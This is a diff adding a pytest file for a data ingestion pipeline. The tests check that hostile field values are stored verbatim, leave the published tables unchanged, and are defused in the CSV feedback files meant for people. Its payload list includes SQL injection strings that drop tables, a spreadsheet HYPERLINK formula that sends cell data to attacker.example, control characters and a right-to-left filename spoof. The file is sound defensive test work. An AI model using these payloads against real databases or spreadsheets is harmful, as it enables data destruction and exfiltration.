@@ -1,0 +1,108 @@
+"""Hostile values are data, never code: SQL, spreadsheet formulas, control characters and
+right-to-left overrides in every field are stored verbatim, change nothing else, and are
+neutralized in the CSV feedback written for people."""
+
+import csv
+import json
+from pathlib import Path
+
+import duckdb
+
+from orchestration.lib.feedback import neutralize
+from orchestration.lib.settings import Settings
+from tests.conftest import published_tables, query, refresh, write_file, write_json
+
+PAYLOADS = [
+    "'; drop table marts.fct_online_dossier_rate; --",
+    "x' or '1'='1",
+    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcmd",
+    "bell\x07and\x1bescape",
+    "\u202eevil.exe\u202c",
+    "Robert'); DROP TABLE raw.file_ledger;--",
+]
+GOOD_FILE = (
+    "region,period,metric,value\nVN-HN,2024,online_dossiers,700\nVN-HN,2024,total_dossiers,1000\n"
+)
+
+
+def _payload_csv() -> str:
+    lines = ["region,period,metric,sector,value,unit,note"]
+    for p in PAYLOADS:
+        quoted = '"' + p.replace('"', '""') + '"'
+        lines += [
+            f"{quoted},2024,online_dossiers,all,1,,",
+            f"VN-HN,{quoted},online_dossiers,all,1,,",
+            f"VN-HN,2024,{quoted},all,1,,",
+            f"VN-HN,2024,online_dossiers,all,{quoted},,",
+            f"VN-HN,2024,digitized_services,{quoted},5,,{quoted}",
+            f"VN-HN,2024,online_dossiers,all,1,{quoted},",
+        ]
+    return "\n".join(lines) + "\n"
+
+
+def test_hostile_values_are_stored_verbatim_and_change_nothing_else(
+    landing: tuple[Path, Path],
+) -> None:
+    root, warehouse = landing
+    write_file(root, "VN-HN/good.csv", GOOD_FILE)
+    refresh()
+    before = published_tables(warehouse)
+
+    write_file(root, "VN-HN/hostile.csv", _payload_csv())
+    write_json(
+        root,
+        "VN-HN/hostile.json",
+        [{"region": p, "period": p, "metric": p, "value": p, "note": p} for p in PAYLOADS],
+    )
+    refresh()
+    after = published_tables(warehouse)
+
+    # the good file's facts and every registry row are exactly as before
+    assert after["fct_online_dossier_rate"] == before["fct_online_dossier_rate"]
+    assert after["dim_region"] == before["dim_region"]
+    raw_values = {r[0] for r in query(warehouse, "select raw_value from marts.data_quality_issues")}
+    for payload in PAYLOADS:
+        assert payload in raw_values, payload
+    records = [
+        json.loads(r[0])
+        for r in query(
+            warehouse,
+            "select raw_record from marts.data_quality_issues where file_path = 'VN-HN/hostile.json'",
+        )
+    ]
+    assert {rec["note"] for rec in records} == set(PAYLOADS)
+    # accepted rows keep their hostile notes and sectors verbatim in the pipeline's state
+    state = duckdb.connect(str(Settings.from_env().state_db), read_only=True)
+    try:
+        kept = state.execute(
+            "select note, sector_raw from raw.parsed_observations where metric = 'digitized_services'"
+        ).fetchall()
+        accepted = state.execute(
+            "select count(*) from raw.validated_observations where metric = 'digitized_services'"
+        ).fetchone()[0]
+    finally:
+        state.close()
+    assert {r[0] for r in kept} == set(PAYLOADS) and {r[1] for r in kept} == set(PAYLOADS)
+    assert accepted == len(PAYLOADS)
+
+    # the province's feedback file shows each payload, with formulas defused
+    feedback = (warehouse.parent / "feedback" / "VN-HN.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(feedback.splitlines(keepends=True)) for cell in row]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"click")' in cells
+    assert "'; drop table marts.fct_online_dossier_rate; --" in cells
+
+
+def test_neutralize_only_prefixes_formula_triggers() -> None:
+    assert neutralize("=1+1") == "'=1+1"
+    assert neutralize("-5") == "'-5"
+    assert neutralize("@x") == "'@x"
+    assert neutralize("\tx") == "'\tx"
+    assert neutralize("Hà Nội") == "Hà Nội"
+    assert neutralize(None) == ""
+    assert neutralize(12) == "12"
